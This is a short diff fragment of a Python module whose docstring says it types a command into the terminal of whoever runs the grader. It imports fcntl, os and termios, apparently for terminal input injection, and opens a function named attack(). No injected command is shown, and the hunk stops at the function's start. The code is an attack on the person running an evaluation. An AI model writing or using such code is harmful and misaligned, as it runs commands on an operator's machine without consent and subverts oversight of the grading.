@@ -1,9 +1,7 @@
 """Types a command into the terminal of whoever runs the grader."""
-
 import fcntl
 import os
 import termios
-
 
 def attack():
     done = []
